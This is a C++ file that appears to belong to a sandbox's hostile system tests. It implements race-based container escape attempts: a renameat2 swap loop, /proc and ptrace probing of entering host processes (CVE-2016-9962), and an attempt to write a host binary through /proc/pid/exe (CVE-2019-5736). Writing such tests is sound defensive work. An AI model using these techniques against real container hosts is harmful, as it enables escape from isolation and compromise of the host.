// Attempts that need luck: on what comes into the pot for a moment, and against who looks a path up.
#include "tests/system/hostile/attempt.hpp"

#include <array>
#include <cctype>
#include <cerrno>
#include <climits>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <string>

#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

namespace potd::hostile {
namespace {

/// Two names change places for ever.
int swap_names(const Words& words) {
    std::printf("# swaps\n");
    static_cast<void>(std::fflush(stdout));
    for (;;) {
        if (::syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE) != 0)
            return errno;
    }
}

std::string link_of(const std::string& path) {
    std::array<char, PATH_MAX> target{};
    const ssize_t size = ::readlink(path.c_str(), target.data(), target.size());
    return size < 0 ? std::string() : std::string(target.data(), static_cast<std::size_t>(size));
}

bool is_of_the_host(const std::string& program) {
    return program.find("potmon") != std::string::npos || program.find("memfd:") != std::string::npos;
}

bool maps_the_monitor(const std::string& process) {
    const int fd = ::open((process + "/maps").c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return false;
    std::string text(65'536, '\0');
    const ssize_t size = ::read(fd, text.data(), text.size());
    ::close(fd);
    text.resize(size > 0 ? static_cast<std::size_t>(size) : 0);
    return is_of_the_host(text);
}

/// A descriptor that leads to a file, through which it could be opened.
bool has_open_files(const std::string& process) {
    DIR* directory = ::opendir((process + "/fd").c_str());
    if (directory == nullptr) return false;
    bool found = false;
    while (const dirent* entry = ::readdir(directory)) {  // NOLINT(concurrency-mt-unsafe)
        const std::string target = link_of(process + "/fd/" + entry->d_name);
        if (target.empty() || target.front() != '/' || target.rfind("/dev/", 0) == 0) continue;
        std::printf("# %s/fd/%s is %s\n", process.c_str(), entry->d_name, target.c_str());
        found = true;
    }
    ::closedir(directory);
    return found;
}

/// Held by this process before it was the pot's own program.
bool is_traced(pid_t pid, const std::string& process) {
    if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) return false;
    bool held = false;
    if (::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr) == 0 && ::waitpid(pid, nullptr, __WALL) == pid) {
        const std::string program = link_of(process + "/exe");
        // One that has ended meanwhile has no program either.
        held = program.empty() ? errno == EACCES : is_of_the_host(program);
    }
    ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    return held;
}

/// Every other process but init.
template <class Visit>
void for_each_process(Visit visit) {
    DIR* directory = ::opendir("/proc");
    if (directory == nullptr) return;
    while (const dirent* entry = ::readdir(directory)) {  // NOLINT(concurrency-mt-unsafe)
        if (std::isdigit(static_cast<unsigned char>(entry->d_name[0])) == 0) continue;
        const auto pid = static_cast<pid_t>(number_of(entry->d_name));
        if (pid != 1 && pid != ::getpid()) visit(pid, std::string("/proc/") + entry->d_name);
    }
    ::closedir(directory);
}

bool has(const std::string& top, const std::string& marker) {
    return ::access((top + marker).c_str(), F_OK) == 0;
}

/// By which way it worked.
bool tells(const char* way, bool worked) {
    if (worked) std::printf("# by its %s\n", way);
    return worked;
}

/// COUNT MARKER: waits for so many processes that are about to become a command of the pot, and tries to get
/// hold of each while it is still one of the host's (CVE-2016-9962).
int haunt(const Words& words) {
    int left = number_of(words[0]);
    const std::string marker = words[1];
    int result = EPERM;
    std::printf("# haunts\n");
    static_cast<void>(std::fflush(stdout));
    while (left > 0 && result != 0) {
        for_each_process([&](pid_t pid, const std::string& process) {
            const std::string program = link_of(process + "/exe");
            if (tells("program", is_of_the_host(program))) result = 0;
            // Not to be read, but there: no program of the pot.
            if (!program.empty() || errno != EACCES) return;
            --left;
            const bool reached =
                tells("maps", maps_the_monitor(process)) || tells("files", has_open_files(process)) ||
                tells("root", has(process + "/root", marker)) ||
                tells("cwd", has(process + "/cwd", marker)) || tells("trace", is_traced(pid, process));
            if (reached) result = 0;
        });
    }
    return result;
}

/// Whether a byte of that program, whoever runs it, can be written over with itself.
bool is_writable(const std::string& program) {
    const int seen = ::open(program.c_str(), O_RDONLY | O_CLOEXEC);
    char byte = 0;
    bool written = false;
    if (seen < 0 || ::pread(seen, &byte, 1, 0) != 1) return false;
    // Busy as long as it runs.
    for (int attempt = 0; attempt < 100 && !written; ++attempt) {
        const int fd = ::open(("/proc/self/fd/" + std::to_string(seen)).c_str(), O_WRONLY | O_CLOEXEC);
        written = fd >= 0 && ::pwrite(fd, &byte, 1, 0) == 1;
        if (fd >= 0) ::close(fd);
        if (fd >= 0 || errno != ETXTBSY) break;
        ::usleep(1000);
    }
    ::close(seen);
    return written;
}

/// COUNT: waits for so many processes that run a program of the host's, and writes to it (CVE-2019-5736).
int overwrite_entered(const Words& words) {
    int left = number_of(words[0]);
    int result = EPERM;
    std::printf("# waits\n");
    static_cast<void>(std::fflush(stdout));
    while (left > 0 && result != 0) {
        for_each_process([&](pid_t /*pid*/, const std::string& process) {
            if (!is_of_the_host(link_of(process + "/exe"))) return;
            --left;
            if (is_writable(process + "/exe")) result = 0;
        });
    }
    return result;
}

}  // namespace

const std::vector<Attempt> race_attempts{
    {"swap", 2, swap_names}, {"haunt", 2, haunt}, {"overwrite-entered", 1, overwrite_entered}};

}  // namespace potd::hostile
